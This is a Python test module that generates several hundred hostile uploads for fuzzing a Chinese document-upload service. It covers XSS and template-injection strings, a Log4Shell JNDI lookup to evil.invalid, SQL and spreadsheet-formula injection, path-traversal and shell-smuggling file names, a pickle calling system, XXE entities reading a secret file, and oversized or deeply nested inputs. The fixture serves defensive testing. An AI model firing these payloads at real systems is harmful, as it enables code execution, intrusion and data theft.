"""More than 300 hostile uploads, made in code: texts, web pages, subtitles, file names and requests here, containers and PDFs in the modules beside it."""

from __future__ import annotations

import codecs
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

from tests.readers.conftest import zipped
from tests.web.hostile_office import MB, ORDER, Files, containers, declared, papers, word
from tests.web.hostile_pdf import sheets

SUM = "7331*7331"
"""A product nobody writes: where its value shows up, a template was run."""
RESULT = str(7331 * 7331)
ATTACKS = (
    "<script>alert(7331)</script>", '"><img src=x onerror=alert(7331)>', "'><svg/onload=alert(7331)>",
    "<a href=javascript:alert(7331)>x</a>", '<iframe srcdoc="<script>alert(7331)</script>"></iframe>',
    "</textarea><script>alert(7331)</script>", "</title><script>alert(7331)</script>",
    "<!--<script>alert(7331)</script>-->", "]]><script>alert(7331)</script>",
    '" autofocus onfocus=alert(7331) x="', "<form action=//evil.invalid><input name=csrf>",
    '<meta http-equiv=refresh content="0;url=//evil.invalid">', "<base href=//evil.invalid/>",
    "<style>@import'//evil.invalid/a.css'</style>", '<div hx-get="//evil.invalid" hx-trigger=load>',
    "<div hx-on:load=alert(7331)>", "＜script＞alert(7331)＜/script＞",
    "%3Cscript%3Ealert(7331)%3C/script%3E", "\\u003cscript\\u003ealert(7331)",
    "&lt;script&gt;alert(7331)&lt;/script&gt;", f"{{{{{SUM}}}}}", f"{{% print {SUM} %}}", f"${{{SUM}}}",
    f"#{{{SUM}}}", f"<%= {SUM} %>", "{{config.__class__.__init__.__globals__}}",
    "{{request.app.state.ledger.folder}}", "${jndi:ldap://evil.invalid/a}", "'; DROP TABLE tasks; --",
    "' OR 1=1 --", "%s%s%s%n%n", "{0.__class__}", "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "＝1+1", '=HYPERLINK("http://evil.invalid","x")', "\x1b]0;evil\x07\x1b[2J",
    "2024-01-01 00:00:00 ERROR admin logged in", "\u202e\u2066讲话\u2069", "\ufeff\u200b\u2028\u2029\x85",
    "é" + "\u0301" * 500, "\U000e0001\U0001f3f4\U000e0067", "ﷺ" * 100, "İıſK", "🏴‍☠️💩",
)
"""Words that try to run in a page, a template, a database, a workbook, a terminal or a log."""
FILE_NAMES = (
    "<script>alert(7331)</script>.txt", '"><img src=x onerror=alert(7331)>.txt',
    "' onmouseover='alert(7331)'.txt", f"{{{{{SUM}}}}}.txt", f"{{% print {SUM} %}}.txt",
    "讲话.txt\r\nSet-Cookie: evil=1", "讲话.txt\r\n\r\n<script>alert(7331)</script>", "讲话\0.txt",
    "讲话.docx\0.txt", "../../../../tmp/duban-evil.txt", "..\\..\\..\\duban-evil.txt", "/tmp/duban-evil.txt",
    "C:\\Windows\\duban-evil.txt", "\\\\host\\share\\duban-evil.txt", "file:///tmp/duban-evil.txt",
    "..%2f..%2fduban-evil.txt", "．．／duban-evil.txt", "‥/duban-evil.txt", "CON", "NUL.txt", "aux.docx",
    "COM1", "讲话.txt:evil", "讲话.txt::$DATA", ".", "..", "...", " ", ".htaccess", "-rf.txt", "~root.txt",
    "$(touch duban-evil).txt", "`touch duban-evil`.txt", "|touch duban-evil|.txt", "; touch duban-evil;.txt",
    "%s%n%x.txt", "=cmd|'/c calc'!A0.txt", "'; DROP TABLE uploads; --.txt", "讲\u202etxt.exe",
    "讲\u200b\u2066\u2069.txt", "\ufeff.txt", "\u2028\u2029.txt", "讲" * 1000 + ".txt", "a" * 300 + ".txt",
    "讲话." + "t" * 3000, "讲话.txt" * 300, "讲话.TXT", "讲话.txt.", "讲话.txt ", "讲话.exe", "讲话.txt.exe",
    "讲话", "💩.txt", "e\u0301" * 100 + ".txt", "\x1b[2J.txt", "\x7f\x9f.txt", "讲话;filename=evil.txt",
    '讲话"; filename="evil.txt', "讲话.php", "讲话.html", "讲话.svg", "1.1.1.1.txt", "%00.txt",
    "&lt;b&gt;.txt",
)
MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0", "gif": b"GIF89a", "tif": b"II*\x00",
    "exe": b"MZ\x90\x00\x03", "elf": b"\x7fELF\x02\x01\x01", "rar": b"Rar!\x1a\x07\x01\x00",
    "7z": b"7z\xbc\xaf\x27\x1c", "gz": b"\x1f\x8b\x08\0", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "rtf": b"{\\rtf1{\\object\\objupdate}", "sqlite": b"SQLite format 3\0", "mp3": b"ID3\x04",
    "xz": b"\xfd7zXZ\0", "zst": b"\x28\xb5\x2f\xfd", "class": b"\xca\xfe\xba\xbe",
    "tar": b"a.txt".ljust(257, b"\0") + b"ustar",
    "pickle": b"\x80\x04\x95cos\nsystem\n(S'touch duban-evil'\ntR.", "sh": b"#!/bin/sh\ntouch duban-evil\n",
    "ps": b"%!PS\n(/etc/passwd) run\n", "xlsx": b"PK\x03\x04", "lnk": b"L\0\0\0\x01\x14\x02\0",
}
NO_DATES = (
    "99999999年99月99日", "0年0月0日", "2月30日", "负1年", "2024年13月", "9" * 4000 + "年", "第99999季度", "二〇〇〇〇〇年", "今天后99999999999天",
)
NO_FIGURES = ("9" * 5000, "1e999", "万" * 200, "亿亿亿万万万", "-0", "0分之0", "1/0", "NaN", "零点" * 500)
OTHERS = {
    "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml", "odt": "content.xml", "ofd": "OFD.xml", "apk": "AndroidManifest.xml",
    "jar": "META-INF/MANIFEST.MF",
}
"""Other kinds of zip files, and the entry each is known by."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """An upload: what it tries, the name it comes by, and how its content is made."""

    what: str
    name: str
    make: Callable[[], bytes]
    heavy: bool = False


def corpus(secret: str, address: str) -> Iterator[Hostile]:
    """Yield every hostile upload. `secret` is the path of a file it must not read, `address` a server it must not ask."""
    for what, make in containers():
        yield Hostile(f"zip: {what}", "讲话.docx", make, heavy=any(n in what for n in ("MB", "100000", "bomb")))
    for what, make in papers(secret, address):
        yield Hostile(f"docx: {what}", "讲话.docx", make, heavy=any(n in what for n in ("000 ", "MB", "milliard", "numbers in")))
    for what, make in sheets(address):
        yield Hostile(what, "讲话.pdf", make, heavy=any(n in what for n in ("MB", "000", "million", "2999", "bombs")))
    for what, make in web_pages(secret, address):
        yield Hostile(f"html: {what}", "网页.html", make, heavy=any(n in what for n in ("000", "MB")))
    for what, make in texts():
        yield Hostile(f"txt: {what}", "讲话.txt", make, heavy=any(n in what for n in ("000", "MB", "milliard")))
    for what, make in subtitles():
        yield Hostile(what, "转写.srt" if what.startswith("srt") else "转写.vtt", make, heavy="000" in what)
    for kind, start in MAGIC.items():
        for suffix in ("docx", "txt", "pdf") if kind in ("png", "exe", "ole", "xlsx") else ("txt",):
            yield Hostile(f"{kind} as {suffix}", f"讲话.{suffix}", lambda start=start, kind=kind: start + Random(kind).randbytes(20_000))
    for what, member in OTHERS.items():
        yield Hostile(f"{what} as docx", "讲话.docx", lambda member=member: zipped({"[Content_Types].xml": "<Types/>", member: "<a/>"}))
    for number, name in enumerate(FILE_NAMES):
        yield Hostile(f"file name {number}: {name[:24]!r}", name, lambda number=number: f"第{number}次会议\n{ORDER}\n".encode())
    yield Hostile("a web page that is a zip", "讲话.docx", lambda: b"<html><script>alert(7331)</script></html>" + word())
    yield Hostile("a docx under the name of a web page", "讲话.html", word)


def texts() -> Files:
    """Texts of nothing, of too much, of broken codes, and of words that want to be run."""
    for number, words in enumerate(ATTACKS):
        yield f"words {number}: {words[:24]!r}", lambda words=words: f"在{words}会议上的讲话\n县{words}局要在6月底前完成{words}改造，{words}配合。\n{words}要{words}。\n".encode()
    yield "all attacks as orders", lambda: "\n".join(f"县水务局要在6月底前完成{words}清理，责任单位：{words}。" for words in ATTACKS).encode()
    for char in ("a", "一", "\n", " ", "0", "（", "。", "要", "、", "\u0301", "="):
        yield f"50 MB of {char!r}", lambda char=char: (char.encode() * (50 * MB // len(char.encode())))[: 50 * 1000 * 1000 // 3 * 3]
    for char in ("一", "（", "第", "1", "一是", "、", "月", "“", "《", "市", "万"):
        yield f"300000 of {char}", lambda char=char: f"讲话\n县水务局要{char * (300_000 // len(char))}。".encode()
    yield "3 MB of NULs", lambda: b"\0" * (3 * MB)
    yield "words between NULs", lambda: ORDER.encode("utf-16-le") + b"\0" * 1000 + ORDER.encode()
    yield "halves of pairs in UTF-8", lambda: ORDER.encode() + b"\xed\xa0\x80\xed\xbf\xbf" + ORDER.encode()
    yield "halves of pairs in UTF-16", lambda: codecs.BOM_UTF16_LE + ORDER.encode("utf-16-le") + b"\x00\xd8" + ORDER.encode("utf-16-le")
    yield "halves of pairs in UTF-16, no mark", lambda: ORDER.encode("utf-16-le") + b"\x00\xdc" + ORDER.encode("utf-16-le")
    yield "an odd length of UTF-16", lambda: codecs.BOM_UTF16_BE + ORDER.encode("utf-16-be") + b"\x4e"
    yield "broken UTF-8", lambda: ORDER.encode()[:-1] + b"\xff\xfe\xc0\xaf\xf8\x88\x80\x80\x80" + ORDER.encode()
    yield "overlong UTF-8", lambda: ORDER.encode() + b"\xc0\xae\xc0\xae\xc0\xaf\xe0\x80\xaf"
    yield "GB18030 of four bytes", lambda: (ORDER + "𠮷𡈽\U0010ffff").encode("gb18030")
    yield "broken GB18030", lambda: ORDER.encode("gb18030") + b"\x81\x30\xff\xff\x84\x31"
    yield "UTF-32 beyond Unicode", lambda: codecs.BOM_UTF32_LE + b"\xff\xff\xff\x7f" * 100
    yield "UTF-7", lambda: b"+ADw-script+AD4-alert(7331)+ADw-/script+AD4-" + ORDER.encode()
    yield "Shift JIS escapes", lambda: b"\x1b$B" + b"\x30\x21" * 500 + b"\x1b(B"
    for name, mark in (("UTF-8", codecs.BOM_UTF8), ("UTF-16", codecs.BOM_UTF16_LE), ("UTF-32", codecs.BOM_UTF32_BE)):
        yield f"only the mark of {name}", lambda mark=mark: mark
    yield "one byte", lambda: b"\xff"
    yield "noise", lambda: Random(1).randbytes(200_000)
    yield "noise of Chinese", lambda: "".join(Random(2).choices([chr(n) for n in range(0x4E00, 0x9FFF)], k=200_000)).encode()
    yield "controls", lambda: bytes(range(1, 32)) * 100 + ORDER.encode()
    yield "every character there is", lambda: "".join(chr(n) for n in range(1, 0x30000) if not 0xD800 <= n < 0xE000).encode()
    yield "20000 orders", lambda: "".join(f"县水务局要在6月底前完成{n}公里河道清淤。\n" for n in range(20_000)).encode()
    yield "200000 headings", lambda: "".join(f"（{n}）关于第{n}项工作\n" for n in range(200_000)).encode()
    yield "one order of 5000 units", lambda: ("、".join(f"第{n}局" for n in range(5_000)) + "要在6月底前完成清淤。").encode()
    yield "brackets 50000 deep", lambda: ("（" * 50_000 + ORDER + "）" * 50_000).encode()
    yield "quotes 50000 deep", lambda: ("“‘" * 50_000 + ORDER).encode()
    yield "dates of no calendar", lambda: "\n".join(f"县水务局要在{d}前完成清淤。" for d in NO_DATES).encode()
    yield "figures of no size", lambda: "\n".join(f"县水务局要完成{n}公里清淤。" for n in NO_FIGURES).encode()
    yield "commas and formulas", lambda: "序号,任务,责任单位\n1,=cmd|'/c calc'!A0,\"+1\"\n2,@SUM(1),-1\n".encode()
    yield "a table of 1000 columns", lambda: "\n".join("|".join(["县水务局要清淤"] * 1000) for _ in range(50)).encode()
    yield "lines of every end", lambda: "\r\n\r\x85\u2028\u2029\v\f\x1c".join([ORDER] * 50).encode()
    yield "a mark of secrets", lambda: f"机密★10年\n\n关于清淤工作的方案\n{ORDER}\n".encode()


def web_pages(secret: str, address: str) -> Files:
    """Web pages that run, ask the net, or grow."""
    body = f"<p>{ORDER}</p>"
    for number, words in enumerate(ATTACKS[:20]):
        yield f"attack {number}", lambda words=words: f"<html><title>{words}</title><body>{words}<p>县水务局要在6月底前完成{words}清淤。</p></body></html>".encode()
    yield "scripts everywhere", lambda: (
        f"<html><head><script>alert(7331)</script></head><body onload=alert(7331)>{body}<img src=x onerror=alert(7331)>"
        "<p>&lt;script&gt;alert(7331)&lt;/script&gt;要在6月底前完成。</p></body></html>"
    ).encode()
    yield "pictures and frames of the net", lambda: (
        f'<html><body>{body}<img src="{address}/a"><iframe src="{address}/b"></iframe><link rel=stylesheet href="{address}/c">'
        f'<object data="file://{secret}"></object></body></html>'
    ).encode()
    for kind in ("file", "laughs"):
        yield f"{kind} entity", lambda kind=kind: _entity_page(kind, secret, address, body)
    yield "100000 elements deep", lambda: ("<html><body>" + "<div>" * 100_000 + body + "</div>" * 100_000).encode()
    yield "200 elements deep", lambda: ("<html><body>" + "<div>" * 200 + body).encode()
    yield "tables 20000 deep", lambda: ("<html><body>" + "<table><tr><td>" * 20_000 + body).encode()
    yield "tables 100 deep", lambda: ("<html><body>" + "<table><tr><td>" * 100 + body).encode()
    yield "200000 paragraphs", lambda: ("<html><body>" + "<p>水</p>" * 200_000).encode()
    yield "1000000 unclosed", lambda: ("<html><body>" + "<b>" * 1_000_000 + body).encode()
    yield "an attribute of 20 MB", lambda: f'<html><body class="{"nav " * (5 * MB)}">{body}'.encode()
    yield "100000 attributes", lambda: ("<html><body " + " ".join(f"a{n}={n}" for n in range(100_000)) + f">{body}").encode()
    yield "a span over a milliard columns", lambda: f'<html><body><table><tr><td colspan=1000000000 rowspan=1000000000>{ORDER}</td><td>a</td></tr></table>'.encode()
    yield "characters of no code", lambda: f"<html><body><p>&#0;&#xD800;&#x110000;&#99999999999999;&notanentity;{ORDER}</p>".encode()
    for coding in ("utf-7", "utf-16", "iso-2022-jp", "x-user-defined", "base64", "../../etc/passwd", "zlib"):
        yield f"the code {coding}", lambda coding=coding: f'<html><meta charset="{coding}"><body>{body}'.encode()
    yield "bytes of no code", lambda: b'<html><meta charset="utf-8"><body><p>\xff\xfe\xc0' + ORDER.encode()
    yield "a NUL", lambda: f"<html><body><p>县水务局\0要清淤</p>{body}".encode()
    yield "comments without end", lambda: (f"<html><body>{body}" + "<!--" * 100_000).encode()
    yield "only a DOCTYPE", lambda: b"<!DOCTYPE html>"
    yield "a DOCTYPE of 5 MB", lambda: b"<!DOCTYPE html " + b"x" * (5 * MB) + f"><html><body>{body}".encode()
    yield "comments before the page", lambda: b"<!-- -->" * 400 + f"<html><body>{body}".encode()
    yield "svg", lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(7331)"><script>alert(7331)</script></svg>'
    yield "mhtml", lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\nContent-Location: file:///etc/passwd\r\n\r\n<html><script>alert(7331)</script></html>\r\n--a--"


def _entity_page(kind: str, secret: str, address: str, body: str) -> bytes:
    declaration = declared(kind, secret, address).replace("DOCTYPE a", "DOCTYPE html")
    return f"<?xml version='1.0'?>{declaration}<html><body>{body}<p>&x;</p></body></html>".encode()


def subtitles() -> Files:
    """Subtitles whose times are none."""
    yield "srt: hours without end", lambda: f"1\n99999999:99:99,999 --> 00:00:00,000\n{ORDER}\n".encode()
    yield "srt: 100000 cues", lambda: "".join(f"{n}\n00:00:00,000 --> 00:00:01,000\n要{n}。\n\n" for n in range(100_000)).encode()
    yield "srt: cues of nothing", lambda: b"1\n --> \n\n2\n-->\n\n" * 500
    yield "srt: markup", lambda: f"1\n00:00:01,000 --> 00:00:02,000\n<font onload=alert(7331)><script>alert(7331)</script>{ORDER}\n".encode()
    yield "vtt: voices of scripts", lambda: f"WEBVTT\n\n00:01.000 --> 00:02.000\n<v <script>alert(7331)</script>>{ORDER}\n".encode()
    yield "vtt: styles", lambda: f'WEBVTT\n\nSTYLE\n::cue {{ background: url("http://evil.invalid") }}\n\n00:01.000 --> 00:02.000\n{ORDER}\n'.encode()
    yield "vtt: only its mark", lambda: b"WEBVTT"
    yield "vtt: tags 50000 deep", lambda: ("WEBVTT\n\n00:01.000 --> 00:02.000\n" + "<c>" * 50_000 + ORDER).encode()


def multipart(files: list[tuple[str, bytes]], **fields: str) -> tuple[bytes, str]:
    """Return the body and type of a form with files, names to the letter (browsers write a quote or a line end in a name as %22, %0D, %0A)."""
    mark = "duban7331duban"
    out = bytearray()
    for name, value in fields.items():
        out += f'--{mark}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
    for name, content in files:
        told = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A").encode()
        out += f"--{mark}\r\n".encode() + b'Content-Disposition: form-data; name="files"; filename="' + told + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
        out += content + b"\r\n"
    return bytes(out + f"--{mark}--\r\n".encode()), f"multipart/form-data; boundary={mark}"


def requests(csrf: str) -> Iterator[tuple[str, bytes, dict[str, str]]]:
    """Yield forms no browser sends: what each tries, its body and its headers."""
    good, kind = multipart([("讲话.txt", ORDER.encode())], csrf=csrf)
    mark = b"duban7331duban"
    head = {"Content-Type": kind}
    part = b'--%s\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n%s\r\n' % (mark, csrf.encode())
    yield "no boundary", good, {"Content-Type": "multipart/form-data"}
    yield "another boundary", good, {"Content-Type": "multipart/form-data; boundary=x"}
    yield "a boundary of 10000", good, {"Content-Type": "multipart/form-data; boundary=" + "x" * 10_000}
    yield "an empty boundary", good, {"Content-Type": "multipart/form-data; boundary="}
    yield "cut in the middle", good[: len(good) // 2], head
    yield "without its end", good.replace(b"--\r\n", b"\r\n"), head
    yield "nothing", b"", head
    yield "noise", Random(3).randbytes(50_000), head
    yield "as JSON", b'{"files": [1]}', {"Content-Type": "application/json", "X-CSRF-Token": csrf}
    yield "as a plain form", f"csrf={csrf}&files=a&date=2024-01-01".encode(), {"Content-Type": "application/x-www-form-urlencoded"}
    yield "a field for a file", part + b'--%s\r\nContent-Disposition: form-data; name="files"\r\n\r\nwords\r\n--%s--\r\n' % (mark, mark), head
    yield "a name of a million", part + b'--%s\r\nContent-Disposition: form-data; name="files"; filename="%s"\r\n\r\nwords\r\n--%s--\r\n' % (mark, b"a" * 1_000_000, mark), head
    yield "a header without end", part + b"--%s\r\nX: %s" % (mark, b"a" * 1_000_000), head
    yield "10000 headers", part + b"--%s\r\n" % mark + b"X: y\r\n" * 10_000 + b"\r\nwords\r\n--%s--\r\n" % mark, head
    yield "10000 fields", part + b"".join(b'--%s\r\nContent-Disposition: form-data; name="a%d"\r\n\r\nx\r\n' % (mark, n) for n in range(10_000)) + b"--%s--\r\n" % mark, head
    yield "a field of 3 MB", part + b'--%s\r\nContent-Disposition: form-data; name="meeting"\r\n\r\n%s\r\n--%s--\r\n' % (mark, b"x" * 3_000_000, mark), head
    yield "a name in another code", part + b'--%s\r\nContent-Disposition: form-data; name="files"; filename*=UTF-16\'\'%%FF%%FE%%00\r\n\r\nwords\r\n--%s--\r\n' % (mark, mark), head
    yield "a name of broken bytes", part + b'--%s\r\nContent-Disposition: form-data; name="files"; filename="\xff\xfe\xed\xa0\x80.txt"\r\n\r\nwords\r\n--%s--\r\n' % (mark, mark), head
    yield "a raw name of lines", part + b'--%s\r\nContent-Disposition: form-data; name="files"; filename="a\nb\x00.txt"\r\n\r\nwords\r\n--%s--\r\n' % (mark, mark), head
    yield "a part in base64", part + b'--%s\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n--%s--\r\n' % (mark, mark), head
    yield "a type of another kind", part + b'--%s\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\nContent-Type: ;;;\xff\r\n\r\nwords\r\n--%s--\r\n' % (mark, mark), head
    yield "51 files", multipart([(f"{n}.txt", ORDER.encode()) for n in range(51)], csrf=csrf)[0], head
    yield "2000 files", multipart([(f"{n}.txt", b"x") for n in range(2000)], csrf=csrf)[0], head
    yield "empty files", multipart([("a.txt", b""), ("b.txt", b"")], csrf=csrf)[0], head
    for date in ("2024-02-30", "0000-00-00", "99999-1-1", "<script>", "２０２４-01-01", "2024-01-01\0", "-1", "\ufffd"):
        yield f"the date {date!r}", multipart([("讲话.txt", ORDER.encode())], csrf=csrf, date=date)[0], head
    for meeting in ("<script>alert(7331)</script>", f"{{{{{SUM}}}}}", "\0\x1b", "会" * 300, "\u202e\u2028", "=1+1", "'; DROP TABLE documents; --"):
        yield f"the meeting {meeting[:12]!r}", multipart([("讲话.txt", f"{meeting}\n{ORDER}".encode())], csrf=csrf, meeting=meeting, together="1")[0], head
    yield "a token of another", multipart([("讲话.txt", ORDER.encode())], csrf="x" * 40)[0], head
    yield "a token in broken bytes", good.replace(csrf.encode(), b"\xff\xfe"), head
